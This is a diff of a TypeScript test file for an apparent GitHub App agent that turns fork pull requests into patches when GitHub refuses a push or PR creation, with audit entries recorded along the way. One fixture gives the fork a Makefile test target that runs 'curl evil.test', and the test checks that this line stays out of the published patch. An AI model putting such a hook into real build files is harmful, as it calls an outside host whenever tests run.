@@ -2,6 +2,7 @@ import { execFileSync } from 'node:child_process';
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import type { AuditEntry } from '../../src/domain/audit.ts';
 import type { HoldSetting } from '../../src/domain/policy.ts';
 import { harvesting } from '../github/held.ts';
 import { install, type Installation } from '../github/installation.ts';
@@ -15,6 +16,8 @@ interface Forked extends Installation {
   /** The fork's pull request. */
   number: number;
   forkHead: string;
+  /** What the run's publication recorded. */
+  recorded: AuditEntry[];
   ask: (body: string, author?: string) => Promise<void>;
   /** What the App said there, the status comment first. */
   said: () => string[];
@@ -36,12 +39,20 @@ async function forked(options: {
   before?: (one: Installation) => Promise<void> | void;
 }): Promise<Forked> {
   const { gift = GIFT, files = () => FIX, workflow = READS, hold, branch = 'gift' } = options;
+  const recorded: AuditEntry[] = [];
   const one: Installation = await install({
     ...(options.permissions === undefined ? {} : { permissions: options.permissions }),
     execute: async (request, publisher, signal) => {
       await options.before?.(one);
       const run = harvesting(one.here, () => one.held, { files, ...(hold === undefined ? {} : { hold }) });
-      return run(request, publisher, signal);
+      const recording: typeof publisher = {
+        ...publisher,
+        publish: (given) => {
+          const append = (entry: AuditEntry) => (recorded.push(entry), given.audit.append(entry));
+          return publisher.publish({ ...given, audit: { ...given.audit, append } });
+        },
+      };
+      return run(request, recording, signal);
     },
   });
   const { shop } = one.here;
@@ -54,6 +65,7 @@ async function forked(options: {
   return Object.assign(one, {
     number: pull.number,
     forkHead,
+    recorded,
     ask: async (body: string, author = 'alice') => {
       shop.comment(pull.number, { body, author });
       await one.settle();
@@ -213,5 +225,36 @@ describe('a pull request from a fork', () => {
     for (const part of ['🚀 Done', '**The result is a patch**', one.forkHead, '+exports.add = (a, b) => a + b;'])
       expect(status).toContain(part);
     expect(status).not.toContain('src/mul.js');
+    expect(one.recorded.find(({ type }) => type === 'publish.patch')?.data).toEqual({
+      commit: expect.stringMatching(/^[0-9a-f]{40}$/) as string,
+      why: operationId === 'git/push' ? 'permission' : 'invalid',
+      pushed: operationId === 'pulls/create',
+    });
   });
+
+  it.each(['git/push', 'pulls/create'] as const)(
+    'that waited for a person ends as a patch where GitHub then refuses %s',
+    async (operationId) => {
+      await using one = await forked({ gift: { Makefile: 'test:\n\tcurl evil.test\n' }, workflow: SECRET });
+      const { shop, standIn } = one.here;
+      await one.ask('/agent fix');
+      const hash = hashIn(one.said()[0]);
+      const status = operationId === 'git/push' ? 403 : 422;
+      standIn.fault({ operationId, times: 3, status, message: 'no' });
+      await one.ask(`/agent publish ${hash}`);
+      expect(shop.pulls()).toHaveLength(1);
+      const [shown = '', answer = ''] = one.said();
+      for (const part of ['🚀 Done', '**The result is a patch**', one.forkHead, '+exports.add = (a, b) => a + b;'])
+        expect(shown).toContain(part);
+      // What the fork brings in is the fork's: the patch is the run's own change.
+      expect(shown).not.toContain('curl evil.test');
+      expect(answer).toContain(`Handed over: \`${hash}\` is the patch in the status comment`);
+      expect(one.audited.map(({ type }) => type)).toContain('publish.patch');
+      // It is over: nothing waits any more.
+      await one.ask('/agent status');
+      expect(one.said().at(-1)).not.toContain('held');
+      await one.ask('/agent publish');
+      expect(one.said().at(-1)).toContain('Nothing waits here');
+    },
+  );
 });
